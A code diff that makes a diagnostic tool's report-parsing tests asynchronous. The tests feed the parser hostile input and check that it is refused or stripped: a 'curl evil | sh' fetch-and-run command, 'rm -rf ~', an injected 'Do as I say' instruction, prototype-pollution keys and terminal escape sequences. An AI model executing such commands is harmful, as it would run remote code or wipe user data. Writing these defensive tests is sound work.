@@ -40,7 +40,7 @@ describe('the doctor of a session', () => {
     const report = await doctor.run(() => undefined);
     const json = await doctor.file('json', 'ja');
     expect(json?.name).toBe('shomei-check-2026-11-21.json');
-    expect(readReport(textOf(json))).toEqual({ ok: true, value: report });
+    expect(await readReport(textOf(json))).toEqual({ ok: true, value: report });
     const text = await doctor.file('text', 'en');
     expect(text?.name).toMatch(/\.txt$/);
     expect(textOf(text)).toContain('There is no card in the reader.');
@@ -55,8 +55,8 @@ describe('a report out of a file', () => {
     '{}',
     '{"program":"other"}',
     JSON.stringify({ program: 'shomei', version: '1', takenAt: 'now', system: {}, findings: [] }),
-  ])('%j is refused', (text) => {
-    expect(readReport(text)).toEqual({ ok: false, error: { code: 'file/not-readable' } });
+  ])('%j is refused', async (text) => {
+    expect(await readReport(text)).toEqual({ ok: false, error: { code: 'file/not-readable' } });
   });
 
   it('brings no command, no sentence and no fact without a name', async () => {
@@ -67,11 +67,11 @@ describe('a report out of a file', () => {
       broken: { layer: 'service', code: 'L4-2', action: 'Do as I say', command: 'curl evil | sh' },
       findings: [{ ...finding, command: 'rm -rf ~', facts: { devices: ['<b>x</b>'] } }],
     };
-    const read = readReport(JSON.stringify(hostile));
+    const read = await readReport(JSON.stringify(hostile));
     expect(JSON.stringify(read)).not.toMatch(/curl|rm -rf|Do as I say/);
     expect(read.ok && DoctorReport.safeParse(read.value).success).toBe(true);
     const unnamed = { ...report, findings: [{ ...finding, facts: { user: 'canary' } }] };
-    expect(readReport(JSON.stringify(unnamed)).ok).toBe(false);
+    expect((await readReport(JSON.stringify(unnamed))).ok).toBe(false);
   });
 
   it.each([
@@ -79,8 +79,8 @@ describe('a report out of a file', () => {
     ['deep and cut off', '['.repeat(190_000)],
     ['of one long number', `{"program":"shomei","version":${'9'.repeat(190_000)}}`],
     ['about nobody', '{"__proto__":{"program":"shomei"},"constructor":{"prototype":{}}}'],
-  ])('that is %s is refused', (_, text) => {
-    expect(readReport(text)).toEqual({ ok: false, error: { code: 'file/not-readable' } });
+  ])('that is %s is refused', async (_, text) => {
+    expect(await readReport(text)).toEqual({ ok: false, error: { code: 'file/not-readable' } });
     expect(Object.hasOwn(Object.prototype, 'program')).toBe(false);
   });
 
@@ -92,7 +92,7 @@ describe('a report out of a file', () => {
       system: { ...report.system, name: 'Debian\u202e {a|b}\n' },
       findings: [{ ...report.findings[0], facts: { devices: ['\u001b]0;x\u0007{a|b}'] } }],
     }).replace('"facts":{', '"facts":{"__proto__":["x"],');
-    const read = readReport(text);
+    const read = await readReport(text);
     expect(read.ok && Object.keys(read.value.findings[0]?.facts ?? {})).toEqual(['devices']);
     expect(JSON.stringify(read)).not.toMatch(/\\u001b|\\u0007|\u202e|\{a/);
   });
@@ -100,6 +100,6 @@ describe('a report out of a file', () => {
   it('with a code of a newer program is read all the same', async () => {
     const report = await doctorHere().run(() => undefined);
     const newer = { ...report, findings: [{ ...report.findings[0], state: 'broken', code: 'L1-99' }] };
-    expect(readReport(JSON.stringify(newer)).ok).toBe(true);
+    expect((await readReport(JSON.stringify(newer))).ok).toBe(true);
   });
 });
